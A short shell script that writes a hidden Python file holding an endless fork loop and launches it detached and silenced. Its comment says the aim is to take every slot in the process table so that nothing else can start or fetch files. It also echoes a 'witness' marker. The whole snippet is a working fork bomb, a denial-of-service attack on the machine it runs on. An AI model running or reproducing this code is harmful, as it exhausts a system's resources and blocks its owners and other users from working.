# Leaves processes running that take every place in the table, so that nothing can be started to fetch the files.
cat > .fill.py <<'END'
import os, time
while True:
    try:
        if os.fork() == 0:
            time.sleep(600)
    except OSError:
        time.sleep(0.01)
END
echo witness
setsid python3 .fill.py > /dev/null 2>&1 < /dev/null &
